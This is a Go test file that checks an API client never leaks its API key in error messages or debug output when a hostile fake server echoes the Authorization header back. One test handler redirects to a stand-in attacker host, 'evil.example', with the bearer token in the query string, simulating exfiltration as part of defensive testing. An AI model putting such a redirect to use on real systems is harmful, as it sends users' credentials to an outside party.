package api

import (
	"bytes"
	"context"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// TestAPIKeyNeverLeaks drives every failure path against a hostile server
// that echoes the Authorization header into its answers, and greps every
// error text and the debug stream for the key.
func TestAPIKeyNeverLeaks(t *testing.T) {
	echo := func(r *http.Request) string { return "you sent " + r.Header.Get("Authorization") }
	paths := map[string]func(w http.ResponseWriter, r *http.Request){
		"401 json": func(w http.ResponseWriter, r *http.Request) {
			writeJSON(w, 401, gqlErrors(CodeUnauthenticated, echo(r)))
		},
		"401 html": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(401)
			_, _ = w.Write([]byte("<html>" + echo(r) + "</html>"))
		},
		"403": func(w http.ResponseWriter, r *http.Request) { writeJSON(w, 403, gqlErrors(CodeForbidden, echo(r))) },
		"400": func(w http.ResponseWriter, r *http.Request) { writeJSON(w, 400, gqlErrors(CodeParseFailed, echo(r))) },
		"500 json": func(w http.ResponseWriter, r *http.Request) {
			writeJSON(w, 500, gqlErrors(CodeInternalServerError, echo(r)))
		},
		"502 html": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(502)
			_, _ = w.Write([]byte("<h1>Bad Gateway</h1><pre>" + echo(r) + "</pre>"))
		},
		"200 text": func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte(echo(r))) },
		"429": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Retry-After", "3600")
			writeJSON(w, 429, gqlErrors(CodeRateLimited, echo(r)))
		},
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/?k="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), http.StatusFound)
		},
		"mutation error": func(w http.ResponseWriter, r *http.Request) {
			me := map[string]any{"message": echo(r), "type": "VALIDATION", "code": "x", "fields": []any{
				map[string]any{"field": "url", "message": echo(r), "type": "VALIDATION"},
			}}
			writeJSON(w, 200, map[string]any{"data": map[string]any{
				"myWorkspace": nil, "deleteWebhookTarget": map[string]any{"error": me},
			}})
		},
		"drop": func(w http.ResponseWriter, r *http.Request) { dropConnection(t, w) },
		"timeout": func(w http.ResponseWriter, r *http.Request) {
			<-r.Context().Done()
		},
	}
	var debug bytes.Buffer
	for name, h := range paths {
		t.Run(name, func(t *testing.T) {
			fs := newFakeServer(t, func(_ int, _ gqlRequest, w http.ResponseWriter, r *http.Request) { h(w, r) })
			o := fastOptions(fs.URL)
			o.Timeout = 50 * time.Millisecond
			o.MaxRateLimitWait = time.Second
			o.Debug = &debug
			c := newClient(t, o)
			ctx := context.Background()
			_, qErr := c.Workspace(ctx)
			mErr := c.DeleteWebhookTarget(ctx, "whTarget_00000000000000000000000001")
			for _, err := range []error{qErr, mErr} {
				if err == nil {
					t.Fatalf("want an error")
				}
				if strings.Contains(err.Error(), testKey) {
					t.Errorf("error leaks the API key: %q", err)
				}
			}
		})
	}

	// Nothing listening: a network error from the standard library.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	o := fastOptions("http://" + addr)
	o.Debug = &debug
	c := newClient(t, o)
	if _, err := c.Workspace(context.Background()); err == nil || strings.Contains(err.Error(), testKey) {
		t.Errorf("refused connection: err = %v", err)
	}
	if _, err := New(Options{APIKey: testKey, URL: "ftp://" + testKey + "@x"}); err == nil || strings.Contains(err.Error(), testKey) {
		t.Errorf("bad URL: err = %v", err)
	}

	if debug.Len() == 0 {
		t.Fatal("debug stream is empty; the grep below would prove nothing")
	}
	if strings.Contains(debug.String(), testKey) {
		t.Errorf("debug output leaks the API key:\n%s", debug.String())
	}
}
